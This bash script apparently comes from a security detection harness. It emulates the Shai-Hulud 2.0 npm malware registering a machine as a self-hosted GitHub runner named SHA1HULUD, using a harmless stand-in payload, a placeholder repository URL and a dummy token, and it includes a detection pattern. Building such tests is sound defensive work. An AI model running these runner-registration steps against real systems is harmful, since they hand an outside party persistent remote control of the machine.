#!/bin/bash
# technique: T1219 Remote Access Software; T1543 Create or Modify System Process
# reproduces: Shai-Hulud 2.0 (npm, November 2025) registered the infected machine as a self-hosted GitHub runner named "SHA1HULUD" for a repository it controlled (`./config.sh --url ... --token ... --name SHA1HULUD`, then `./run.sh`), so that a workflow of its own could run anything on it later
# expect: remote-access-tunnel ^Runner\.Listener$
# exec-borne: no
#
# The "runner" is a copy of the harness's harmless payload under the
# runner's own layout; config.sh execs it as the real one does.
set -u

RUNNER_DIR="${BW_ATTACK_TMP:?}/.dev-env"
trap 'rm -rf "$RUNNER_DIR"' EXIT
mkdir -p "$RUNNER_DIR/bin"
cp "${BW_ATTACK_PAYLOAD:?}" "$RUNNER_DIR/bin/Runner.Listener"
chmod +x "$RUNNER_DIR/bin/Runner.Listener"
cat >"$RUNNER_DIR/config.sh" <<'SH'
#!/bin/bash
cd "$(dirname "$0")" && exec ./bin/Runner.Listener configure "$@"
SH
chmod +x "$RUNNER_DIR/config.sh"

"$RUNNER_DIR/config.sh" --url "https://github.com/octo-org/octo-repo" \
	--token "AAAAAAAAAAAAAAAAAAAAAAAAAAAAA" --name SHA1HULUD --unattended
